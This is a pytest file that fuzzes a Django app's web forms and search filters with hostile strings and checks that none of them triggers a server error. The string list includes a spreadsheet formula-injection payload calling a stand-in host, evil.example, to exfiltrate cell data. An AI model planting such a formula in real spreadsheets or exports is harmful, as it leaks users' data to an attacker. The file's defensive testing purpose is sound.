"""The main web forms, fed the hostile strings of issue 9: never a 500, on either database."""

import pytest
from django.test import Client

from simpatik.inventory.forms import ApplicationForm
from simpatik.projects.forms import NeedForm
from simpatik.projects.services.rules import eligible
from simpatik.testing.walker import walk_to

pytestmark = pytest.mark.django_db

HOSTILE = [
    "nama\x00terselubung",
    "9223372036854775808",
    "-99999999999999999999999",
    "²",
    "٣٤",
    "[" * 5000 + "]" * 5000,
    "J" * 300,
    '=HYPERLINK("http://evil.example/?x="&A2,"Klik")',
    "2026-02-31",
]


def _no_server_error(response):
    assert response.status_code < 500, response.content[:500]


def _fuzz(client, url, base: dict, names):
    """Every hostile value in every field at once (forms clean each field regardless), then
    the commonest ones field by field, so a crash after the other fields validated shows too."""
    for value in HOSTILE:
        _no_server_error(client.post(url, {**base, **dict.fromkeys(names, value)}))
    for name in names:
        for value in (HOSTILE[1], HOSTILE[3], HOSTILE[6]):
            _no_server_error(client.post(url, {**base, name: value}))


@pytest.fixture
def signed_in(kabid):
    client = Client()
    client.force_login(kabid)
    return client


def test_login_form():
    client = Client()
    _fuzz(client, "/masuk/", {"username": "kabid", "password": "x"}, ["username", "password"])


def test_need_form(signed_in, opd):
    base = {"judul": "Aplikasi", "opd": opd.pk, "latar_belakang": "x", "tujuan": "y"}
    _fuzz(signed_in, "/usulan/baru/", base, NeedForm._meta.fields)


def test_inventory_form(signed_in, opd):
    base = {"nama": "Aplikasi", "opd": opd.pk}
    _fuzz(signed_in, "/inventaris/baru/", base, ApplicationForm._meta.fields)


def test_step_completion_form(project, team):
    number = next(
        step.number
        for step in project.definition.steps
        if any(item.kind == "field" for item in step.requirements)
    )
    run = walk_to(project, team, number)
    client = Client()
    client.force_login(next(user for user in team if eligible(user, run)))
    keys = [item.key for item in run.step.requirements if item.kind == "field"]
    url = f"/proyek/{project.pk}/langkah/{number}/selesai/"
    _fuzz(client, url, {}, [*keys, "decision", "reason"])


@pytest.mark.parametrize("url", ["/proyek/", "/inventaris/", "/katalog/", "/usulan/", "/tugas/"])
def test_search_and_filters(signed_in, url):
    for name in ("q", "opd", "status", "page", "step", "kategori"):
        for value in HOSTILE:
            _no_server_error(signed_in.get(url, {name: value}))
